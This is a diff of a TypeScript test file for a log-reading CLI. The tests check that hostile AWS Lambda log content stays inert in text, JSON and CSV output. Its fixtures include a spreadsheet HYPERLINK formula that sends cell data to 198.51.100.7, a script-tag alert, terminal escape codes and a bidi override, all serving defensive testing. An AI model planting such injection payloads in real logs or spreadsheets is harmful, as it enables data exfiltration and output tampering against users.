@@ -127,12 +127,11 @@ const FORMULA = `=HYPERLINK("http://198.51.100.7/?"&A1,"click")`;
 describe("text from logs is inert in every form", () => {
   const messages = [ESCAPES, SCRIPT, BIDI, FORMULA, `+${FORMULA}`, `@SUM(1)`, "| a | b |\n\n# h"];
   const hostileName = "<script>alert(1)</script>=1+1\u001b[31m\u202e";
-  const hostile = file(
-    "hostile.json",
+  const payload = (logGroup: string): string =>
     JSON.stringify({
       messageType: "DATA_MESSAGE",
       owner: "111122223333",
-      logGroup: `/aws/lambda/${hostileName.replaceAll("/", "")}`,
+      logGroup,
       logStream: `2026/01/01/[$LATEST]${ESCAPES}${SCRIPT}`,
       subscriptionFilters: [FORMULA],
       logEvents: messages.flatMap((message, index) =>
@@ -145,9 +144,10 @@ describe("text from logs is inert in every form", () => {
             message: line.slice(25),
           })),
       ),
-    }),
-  );
-  const named = ["--function", FORMULA];
+    });
+  const hostile = file("hostile.json", payload(`/aws/lambda/${hostileName.replaceAll("/", "")}`));
+  // Only what the log leaves unnamed takes the name that is given.
+  const unnamed = file("unnamed.json", payload("shared"));
 
   test.each([
     ["report", "text"],
@@ -159,8 +159,8 @@ describe("text from logs is inert in every form", () => {
     ["invocations", "json"],
     ["invocations", "csv"],
   ])("lambent %s --format %s", async (command, format) => {
-    for (const extra of [[], named]) {
-      const text = await answer(command, hostile, "--format", format, ...extra);
+    for (const source of [[hostile], [unnamed, "--function", FORMULA]]) {
+      const text = await answer(command, ...source, "--format", format);
       expect(text).toMatch(/owned|alert|HYPERLINK/);
       const lineEnds = format === "csv" ? /[\t\r\n]/g : /\n/g;
       expect(found(text.replace(lineEnds, ""), DRIVES_A_TERMINAL)).toBeNull();
